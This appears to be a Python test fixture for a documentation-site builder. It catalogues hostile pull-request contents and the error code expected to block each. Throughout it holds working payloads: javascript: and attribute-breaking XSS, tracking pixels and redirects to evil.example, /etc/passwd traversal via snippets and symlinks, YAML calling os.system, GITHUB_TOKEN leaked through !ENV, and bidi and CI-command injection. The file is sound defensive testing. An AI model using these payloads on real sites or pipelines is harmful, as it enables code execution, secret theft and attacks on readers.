"""Hostile pull requests: what each holds, and the error that keeps it from readers.

What tests/nodrift/test_harmless.py has in one page (tags, handlers, schemes, attribute
lists) and tests/faults in one run (writing, reading, the network, programs) is not
repeated here.
"""

from attacking import (
    BIB,
    COINS,
    CONFIG,
    LOCK,
    TOSS,
    Attack,
    Plant,
    both,
    config,
    forged,
    link,
    new,
    option,
    page,
    says,
    swap,
)

from nodrift.record import Figure

PIXEL = "https://evil.example/pixel.gif"
SIDES = '![Two bars of nearly the same height.](coins/toss:sides "Tails and heads.")'


def figure(alt: str = "Bars", caption: str = "Sides", more: str = "") -> Plant:
    """Another text for a figure that is there."""
    return swap(COINS, SIDES, f'![{alt}](coins/toss:sides "{caption}"){more}')


def work(old: str, new: str) -> Plant:
    """Another text in a work, which is told at its key."""
    return swap(BIB, old, new, "@article{gelman2002,")


DOI = "doi = {10.1198/000313002605}"
ENVIRONMENT = {"python": "3.11.0", "packages": {}, "engine": "0" * 12, "machine": "vax"}

# What would reach readers

PUBLISHING = {
    # addresses
    "link in capitals": Attack(
        "an uncited address, spelt so that nobody sees it is one",
        says("[Claim your prize](HTTPS://EVIL.example/win)"),
        "E-LINK",
    ),
    "link without slashes": Attack(
        "browsers read https:evil.example as https://evil.example",
        says("[Claim your prize](https:evil.example/win)"),
        "E-LINK",
    ),
    "link with a space before": Attack(
        "the scheme hides behind a tab",
        says('<a href="&#9;https://evil.example">Claim your prize</a>'),
        "E-LINK",
    ),
    "link with a tab inside": Attack(
        "browsers drop tabs inside of a scheme",
        says('<a href="ht&#9;tps://evil.example">Claim your prize</a>'),
        "E-LINK",
    ),
    "link without a scheme": Attack(
        "an address that takes the scheme of the site",
        says("[Claim your prize](//evil.example/win)"),
        "E-LINK",
    ),
    "link with backslashes": Attack(
        "browsers read a backslash as a slash",
        says("[Claim your prize](/\\\\evil.example/win)", "[Claim"),
        "E-LINK",
    ),
    "link to a file of the reader": Attack(
        "file: opens what lies on the reader's disk",
        says("[here](file:///etc/passwd)"),
        "E-HTML",
    ),
    "link to a page of the browser": Attack(
        "view-source: and the like do something", says("[x](blob:x)"), "E-HTML"
    ),
    "address of the web in brackets": Attack(
        "an address as a link, uncited", says("<https://evil.example/>"), "E-LINK"
    ),
    "picture from elsewhere": Attack(
        "a pixel that counts readers", says(f"![a]({PIXEL})"), "E-FIGURE"
    ),
    "picture by reference": Attack(
        "the same by a reference",
        says(f"![a][pixel]\n\n[pixel]: {PIXEL}"),
        "E-FIGURE",
    ),
    "picture in a footnote": Attack(
        "the same in a footnote",
        says(f"a[^p]\n\n[^p]: ![a]({PIXEL})", "[^p]:"),
        "E-FIGURE",
    ),
    "picture in the title of a note": Attack(
        "the same in a title",
        says(f'!!! note "![a]({PIXEL})"\n\n    x'),
        "E-FIGURE",
    ),
    "picture in a cell": Attack(
        "the same in a table",
        says(f"| a |\n|---|\n| ![a]({PIXEL}) |", "| !["),
        "E-FIGURE",
    ),
    "picture in a caption": Attack(
        "the same in a caption",
        figure(caption=f"![b]({PIXEL})"),
        "E-FIGURE",
    ),
    "picture in HTML in a caption": Attack(
        "the same as a tag",
        figure(caption=f"<img src={PIXEL}>"),
        "E-SYNTAX",
    ),
    # what covers the page
    "class of a drawer": Attack(
        "a fixed drawer of the frame, filled by an author",
        says('<div class="nd-side">Your session has ended</div>'),
        "E-SYNTAX",
    ),
    "id of the frame": Attack(
        "scripts of the theme would find this instead of the search",
        says('<p id="nd-search-open">x</p>'),
        "E-SYNTAX",
    ),
    "id of the frame by a list": Attack(
        "the same by an attribute list", says("word\n{: #nd-toc }", "{: #nd"), "E-HTML"
    ),
    "id of Material's": Attack(
        "what the browser skips to", says("word\n{: #__skip }", "{: #__"), "E-HTML"
    ),
    "style in a table": Attack(
        "a cell that covers all",
        says('<table><tr><td style="position:fixed">x</td></tr></table>'),
        "E-HTML",
    ),
    "formula as high as a house": Attack(
        "a black rule over the page",
        says(r"$\rule{900em}{900em}$"),
        "E-MATH",
    ),
    "formula that goes left": Attack(
        "words laid over others", says(r"$\kern-80em \text{Pay here}$"), "E-MATH"
    ),
    "formula that goes up": Attack(
        "words laid over the header",
        says(r"$\raisebox{70em}{\text{Pay here}}$"),
        "E-MATH",
    ),
    "formula with a link": Attack(
        "KaTeX knows links", says(r"$\href{javascript:alert(1)}{x}$"), "E-MATH"
    ),
    "formula with an address": Attack(
        "KaTeX knows addresses", says(r"$\url{https://evil.example}$"), "E-MATH"
    ),
    "formula with a picture": Attack(
        "KaTeX loads pictures",
        says(rf"$\includegraphics{{{PIXEL}}}$"),
        "E-MATH",
    ),
    "formula with attributes": Attack(
        "KaTeX writes attributes", says(r"$\htmlData{demo=ring}{x}$"), "E-MATH"
    ),
    "formula with a style": Attack(
        "KaTeX writes styles", says(r"$\htmlStyle{position:fixed}{x}$"), "E-MATH"
    ),
    "formula that is a tag": Attack(
        "the text of a formula is text", says(r"$\text{<script>alert(1)</script>}$"), ""
    ),
    "macro with a link": Attack(
        "the same, hidden in macros.tex",
        both(
            says(r"$\prize$"),
            new(
                "docs/macros.tex",
                "\\newcommand{\\prize}{\\href{https://evil.example}{x}}\n",
            ),
        ),
        "E-MATH",
    ),
    # works
    "work with a script": Attack(
        "the address of a work does something",
        work(DOI, "url = {javascript:alert(1)}"),
        "E-BIB",
        BIB,
    ),
    "work with data": Attack(
        "the same by data:",
        work(DOI, "url = {data:text/html,<script>x</script>}"),
        "E-BIB",
        BIB,
    ),
    "work with a quotation mark": Attack(
        "the address of a work ends its attribute",
        work(
            DOI,
            'url = {https://a.b/" onmouseover="alert(1)}',
        ),
        "E-BIB",
        BIB,
    ),
    "doi that is a tag": Attack(
        "the same by a doi",
        work(DOI, 'doi = {10.1/"><script>alert(1)</script>}'),
        "E-BIB",
        BIB,
    ),
    "work by a link in its title": Attack(
        "LaTeX of a title knows links",
        work("You Can Load", r"\href{javascript:alert(1)}{You Can} Load"),
        "",
    ),
    "author that is a tag": Attack(
        "names are text", work("Gelman, Andrew", "<b onclick=x>, Andrew"), ""
    ),
    "key that is a tag": Attack(
        "keys become anchors",
        new(
            BIB,
            '@book{x"><script>alert(1)</script>,title={a},author={B},year={2001},publisher={C},isbn={1}}\n',
        ),
        "E-BIB",
        BIB,
    ),
    # front matter
    "template of its own": Attack(
        "a page chooses another template",
        swap(COINS, "title: T", "template: 404.html\ntitle: T", "template"),
        "E-FRONT",
    ),
    "switches of the theme": Attack(
        "a page chooses what the theme does",
        swap(COINS, "title: T", "icon: ../../../x\ntitle: T", "icon"),
        "E-FRONT",
    ),
    "list in a description": Attack(
        "a theme prints it as it is",
        swap(
            COINS,
            "description: How",
            "keywords: [{a: '<script>'}]\ndescription: How",
            "keywords",
        ),
        "E-FRONT",
    ),
    "front matter that ends twice": Attack(
        "a generator reads it to the dots, and takes the rest for text",
        swap(COINS, "tossed.\n---", "tossed.\n...\n<b>It rains 77 %.</b>\n---", "<b>"),
        "E-FRONT",
    ),
    "front matter for Python": Attack(
        "YAML that calls",
        swap(
            COINS, "title: T", "x: !!python/object/apply:os.system [id]\ntitle: T", "x:"
        ),
        "E-FRONT",
    ),
    # names
    "page named like a handler": Attack(
        "its address stands in attributes",
        both(
            page('posts/x" onmouseover="alert(1).md', "x\n", ""),
            says('[x](<x" onmouseover="alert(1).md>)'),
        ),
        "E-STEM",
        'docs/posts/x" onmouseover="alert(1).md',
    ),
    "page named over two lines": Attack(
        "a message would begin with a command for the runner",
        page("posts/a\n::add-mask::x.md", "x\n", ""),
        "E-STEM",
        "docs/posts/a\\n::add-mask::x.md",
    ),
    "page in the place of a script's": Attack(
        "a page where the build puts the page of a script",
        page("code/coins/fake.md", "Your session has ended. Log in again.\n", ""),
        "E-STEM",
        "docs/code/coins/fake.md",
    ),
    # scripts as they are shown
    "docstring that is a script": Attack(
        "the page of a script shows its first words",
        swap(TOSS, '"""Toss a coin', '"""<script>alert(1)</script> Toss a coin'),
        "E-HTML",
        TOSS,
    ),
    "docstring with a picture": Attack(
        "the same with a pixel",
        swap(TOSS, '"""Toss a coin', f'"""![a]({PIXEL}) Toss a coin'),
        "E-HTML",
        TOSS,
    ),
    "docstring with a link": Attack(
        "the same with a link",
        swap(TOSS, '"""Toss a coin', '"""[Win](javascript:alert(1)) Toss a coin'),
        "E-HTML",
        TOSS,
    ),
    "docstring with an address": Attack(
        "the same with a bare address",
        swap(TOSS, '"""Toss a coin', '"""https://evil.example Toss a coin'),
        "E-HTML",
        TOSS,
    ),
    "docstring with a quotation mark": Attack(
        "it ends the attribute in which it is described",
        swap(TOSS, '"""Toss a coin', '"""Toss" onload="alert(1) a coin'),
        "E-LOCK",  # nothing else: it is text, and the site escapes it
        TOSS,
    ),
    "code that reads otherwise": Attack(
        "letters that turn a line around (CVE-2021-42574)",
        swap(TOSS, "# %% share\n", "# %% share\nx = 'a\u202e' # b\n", "x = 'a"),
        "E-SYNTAX",
        TOSS,
    ),
    "prose that reads otherwise": Attack(
        "the same in a page", says("It is not\u2066 true\u2069."), "E-SYNTAX"
    ),
    "unseen letters": Attack(
        "words that a search does not find, and reviewers do not see",
        says("It is\U000e0041\U000e0042 true."),
        "E-SYNTAX",
    ),
    "commands for a terminal": Attack(
        "an error would move the cursor of whoever reads it",
        says("[x]{claim: \x1b[2Jcoins/toss:heads == 1}"),
        "E-SYNTAX",
    ),
    "region that is a tag": Attack(
        "names of regions stand in pages",
        swap(TOSS, "# %% share\n", "# %% <script>\n"),
        "E-REGION",
        TOSS,
    ),
}

# What would tell secrets, or reach outside

REACHING = {
    "file through a fence": Attack(
        "a listing of a file of the machine",
        says('```python\n--8<-- "../../../../etc/passwd"\n```', '--8<-- "../'),
        "E-ID",
    ),
    "file through a fence of output": Attack(
        "the same by an absolute path",
        says('```text\n--8<-- "/etc/passwd"\n```', '--8<-- "/etc'),
        "E-ID",
    ),
    "file through a paragraph": Attack(
        "the same outside of a fence", says('--8<-- "/etc/passwd"'), "E-SYNTAX"
    ),
    "file through an id": Attack(
        "dots in an id", says("{{ ../../etc/passwd:x }}"), "E-EXPR"
    ),
    "file through a figure": Attack(
        "dots in a figure", says('![a](../../secret:x "b")'), "E-FIGURE"
    ),
    "file through a demo": Attack(
        "dots in what a demo loads",
        figure(more='{demo: plane coins/toss:../../x.json "c"}'),
        "E-DEMO",
    ),
    "file of the repository by a link": Attack(
        "what is no page", says("[x](../../pyproject.toml)"), "E-LINK"
    ),
    "page that is a link": Attack(
        "a file of the machine as a page",
        link("docs/secret.md", "/etc/passwd"),
        "E-DOCS",
        "docs/secret.md",
    ),
    "picture of the theme that is a link": Attack(
        "the theme's files are copied as they are",
        link("docs/theme/assets/x.txt", "/etc/passwd"),
        "E-DOCS",
        "docs/theme/assets/x.txt",
    ),
    "folder of the theme that is a link": Attack(
        "a whole folder of the machine",
        link("docs/theme/assets/home", "/etc"),
        "E-DOCS",
        "docs/theme/assets/home",
    ),
    "script that is a link": Attack(
        "its code would be shown",
        both(
            link("tutorials_src/coins/secret.py", "../../../private.py"),
            new("../private.py", "# %% all\npassword = 'CANARY'\n"),
        ),
        "E-DOCS",
        "tutorials_src/coins/secret.py",
    ),
    "folder of scripts that is a link": Attack(
        "all scripts of a folder of the machine",
        link("tutorials_src/secret", "/usr/lib"),
        "E-DOCS",
        "tutorials_src/secret",
    ),
    "data that is a link": Attack(
        "a script opens what lies beside it",
        link("tutorials_src/coins/table.csv", "/etc/passwd"),
        "E-DOCS",
        "tutorials_src/coins/table.csv",
    ),
    "lock that is a link": Attack(
        "a run would write through it",
        link(LOCK, "../../../escaped.json"),
        "E-DOCS",
        LOCK,
    ),
    "binding that is a link": Attack(
        "a binding is Python that runs",
        link("tests/equations/coins.py", "/elsewhere/x.py"),
        "E-DOCS",
        "tests/equations/coins.py",
    ),
    "configuration that is a link": Attack(
        "the book would be another's",
        both(link("pyproject.toml", "../other.toml"), new("../other.toml", "")),
        "E-DOCS",
        "pyproject.toml",
    ),
    "secret in the name of the site": Attack(
        "a variable of the machine, published",
        option("site_name: The Coin Book", "site_name: !ENV GITHUB_TOKEN"),
        "E-CONFIG",
        CONFIG,
    ),
    "secret as a second choice": Attack(
        "the same behind a variable that is ours",
        option("site_name: The Coin Book", "site_name: !ENV [SITE_URL, HOME, x]"),
        "E-CONFIG",
        CONFIG,
    ),
    "folder of pages is the repository": Attack(
        "all of it would be published, .git as well",
        option("docs_dir: docs", "docs_dir: ."),
        "E-CONFIG",
        CONFIG,
    ),
    "site in another folder": Attack(
        "a build empties the folder it writes to",
        option(
            "site_dir: !ENV [SITE_DIR, build/site]",
            "site_dir: !ENV [SITE_DIR, ../../victim]",
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "redirection out of the site": Attack(
        "an old address that leads readers elsewhere",
        option(
            "plugins: []",
            "plugins:\n  - redirects:\n      redirect_maps:\n        old.md: https://evil.example/",
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "redirection above the site": Attack(
        "the plugin writes a file where the old address was",
        option(
            "plugins: []",
            "plugins:\n  - redirects:\n      redirect_maps:\n        ../../../escaped.md: index.md",
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "feed above the site": Attack(
        "a plugin writes where an option says",
        option(
            "plugins: []",
            "plugins:\n  - rss:\n      feeds_filenames: {rss_created: ../../escaped.xml}",
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "cache above the project": Attack(
        "the same by an option that we use",
        option("plugins: []", "plugins:\n  - rss:\n      cache_dir: ../../escaped"),
        "E-CONFIG",
        CONFIG,
    ),
    "style of a feed": Attack(
        "a feed that loads from elsewhere",
        option(
            "plugins: []",
            "plugins:\n  - rss:\n      stylesheet: https://evil.example/x.xsl",
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "another's plugin": Attack(
        "whatever is installed, or lies in the checkout",
        option("plugins: []", "plugins:\n  - macros"),
        "E-CONFIG",
        CONFIG,
    ),
    "another's extension": Attack(
        "its name is imported, from the working directory too",
        both(
            option("  - tables", "  - evil\n  - tables"),
            new("evil.py", "from pathlib import Path\nPath('escaped').touch()\n"),
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "snippets": Attack(
        "an extension that reads files",
        option(
            "  - tables", "  - pymdownx.snippets:\n      base_path: /etc\n  - tables"
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "embedded files": Attack(
        "an extension that writes pictures into pages",
        option("  - tables", "  - pymdownx.b64:\n      base_path: /\n  - tables"),
        "E-CONFIG",
        CONFIG,
    ),
    "hooks": Attack(
        "Python that a generator runs",
        config("hooks:\n  - evil.py"),
        "E-CONFIG",
        CONFIG,
    ),
    "inheritance": Attack(
        "another file that says what this one may not",
        config("INHERIT: ../evil.yml"),
        "E-CONFIG",
        CONFIG,
    ),
    "YAML that calls": Attack(
        "mkdocs reads YAML that runs commands",
        config("extra_templates: !!python/object/apply:os.system ['touch escaped']"),
        "E-CONFIG",
        CONFIG,
    ),
    "YAML that names": Attack(
        "a function as an option",
        option(
            "  - pymdownx.highlight",
            "  - pymdownx.highlight:\n      x: !!python/name:os.system",
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "YAML of relative paths": Attack(
        "a tag of the generator's own",
        config("site_author: !relative ../.."),
        "E-CONFIG",
        CONFIG,
    ),
    "YAML said twice": Attack(
        "one reader takes the first, another the last",
        config("use_directory_urls: true # again", "use_directory_urls: true # again"),
        "E-CONFIG",
        CONFIG,
    ),
    "script from elsewhere": Attack(
        "every page would load it",
        config("extra_javascript: [https://evil.example/x.js]"),
        "E-CONFIG",
        CONFIG,
    ),
    "style from elsewhere": Attack(
        "the same with a style",
        config("extra_css: ['//evil.example/x.css']"),
        "E-CONFIG",
        CONFIG,
    ),
    "counting readers": Attack(
        "Material loads what counts readers",
        option("extra:\n", "extra:\n  analytics: {provider: google, property: G-1}\n"),
        "E-CONFIG",
        CONFIG,
    ),
    "theme of its own": Attack(
        "templates are programs",
        config("theme:\n  name: material\n  custom_dir: tests", "  custom_dir"),
        "E-CONFIG",
        CONFIG,
    ),
    "page elsewhere in the navigation": Attack(
        "a link on every page",
        option(
            "  - Home: index.md", "  - Home: index.md\n  - Prize: https://evil.example"
        ),
        "E-CONFIG",
        CONFIG,
    ),
    "tag in the navigation": Attack(
        "titles are written as they are",
        option("  - Home: index.md", "  - '<script>alert(1)</script>': index.md"),
        "E-CONFIG",
        CONFIG,
    ),
    "tag in the name of the site": Attack(
        "so is the name",
        option("site_name: The Coin Book", "site_name: <b onclick=x>The Coin Book</b>"),
        "E-CONFIG",
        CONFIG,
    ),
    "ampersand in the name of the site": Attack(
        "a feed that no reader can read",
        option("site_name: The Coin Book", "site_name: Heads & Tails"),
        "E-CONFIG",
        CONFIG,
    ),
    "script in the copyright": Attack(
        "the one place that has tags",
        config('copyright: <a href="javascript:alert(1)">MIT</a>'),
        "E-CONFIG",
        CONFIG,
    ),
    "tag in the name of a part": Attack(
        "the series is printed on many pages",
        option("title: Tossing a Coin", "title: <script>alert(1)</script>"),
        "E-CONFIG",
        CONFIG,
    ),
}

# What a lock says is committed text, sealed by whoever wrote it

LOCKS = {
    "result": Attack(
        "another number, sealed as a run would",
        forged('"heads": 9', results={"heads": 9}),
        "E-LOCK",
        LOCK,
    ),
    "output": Attack(
        "another output",
        forged('"results": "<', outputs={"results": "<script>alert(1)</script>"}),
        "E-LOCK",
        LOCK,
    ),
    "region of a figure": Attack(
        "it stands below a figure",
        forged(
            '"sides": {',
            figures={"sides": Figure("<script>alert(1)</script>", "0" * 64)},
        ),
        "E-LOCK",
        LOCK,
    ),
    "machine": Attack(
        "a machine of another class is believed, and its values are not used",
        forged(
            environment={
                **ENVIRONMENT,
                "machine": "<script>alert(1)</script>",
            },
            results={"heads": 9},
        ),
        "E-LOCK",
        TOSS,
    ),
    "outputs that are numbers": Attack(
        "fields of other kinds", forged(outputs={"results": 7}), "E-LOCK", LOCK
    ),
    "results that are a list": Attack(
        "fields of other kinds", forged(results=[1, 2]), "E-LOCK", LOCK
    ),
    "no environment": Attack(
        "fields of other kinds", forged(environment={}), "E-LOCK", LOCK
    ),
    "packages that are a word": Attack(
        "fields of other kinds",
        forged(environment={**ENVIRONMENT, "packages": "all"}),
        "E-LOCK",
        LOCK,
    ),
    "inputs that are numbers": Attack(
        "fields of other kinds", forged(inputs={"a": 1}), "E-LOCK", LOCK
    ),
    "inputs above the project": Attack(
        "a lock that asks for the state of another's files",
        forged(inputs={"../../../etc/passwd": "0"}),
        "E-LOCK",
        LOCK,
    ),
    "assets above the site": Attack(
        "a build copies what a record names",
        forged(assets={"../../../../escaped.txt": "0" * 64}),
        "E-LOCK",
        LOCK,
    ),
    "figure above the site": Attack(
        "the same with a drawing",
        forged(figures={"../../../escaped": Figure("sides", "0" * 64)}),
        "E-LOCK",
        LOCK,
    ),
    "unreached that is a word": Attack(
        "fields of other kinds", forged(unreached=["x"]), "E-LOCK", LOCK
    ),
    "seconds that are words": Attack(
        "fields of other kinds",
        forged('"seconds": {', seconds={"share": "<script>"}),
        "E-LOCK",
        LOCK,
    ),
    "path of a user": Attack(
        "what a run printed tells where somebody lives",
        both(
            lambda _: "# %% results",
            forged(outputs={"results": "in /home/alice/x.csv"}),
        ),
        "E-RECORD",
        TOSS,
    ),
}
